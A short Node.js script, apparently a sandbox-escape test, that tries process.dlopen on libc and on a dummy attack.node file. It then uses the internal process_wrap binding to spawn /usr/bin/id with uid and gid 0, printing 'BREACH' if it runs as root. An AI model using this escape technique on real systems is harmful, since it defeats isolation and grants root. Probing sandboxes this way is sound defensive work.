// Loads native code, and calls Node's insides to become root by them.
const fs = require('fs');

for (const library of ['/lib/x86_64-linux-gnu/libc.so.6', '/work/attack.node']) {
  fs.writeFileSync('/work/attack.node', 'no library');
  try {
    process.dlopen({ exports: {} }, library);
  } catch (e) {
    console.log(e.code);
  }
}
const { Process } = process.binding('process_wrap');
const child = new Process();
const error = child.spawn('/usr/bin/id', ['id'], undefined, undefined, [], 3, 0, 0); // flags: the next two are user and group
console.log(error === 0 ? 'BREACH: a child as root' : error);
process.exit(0);
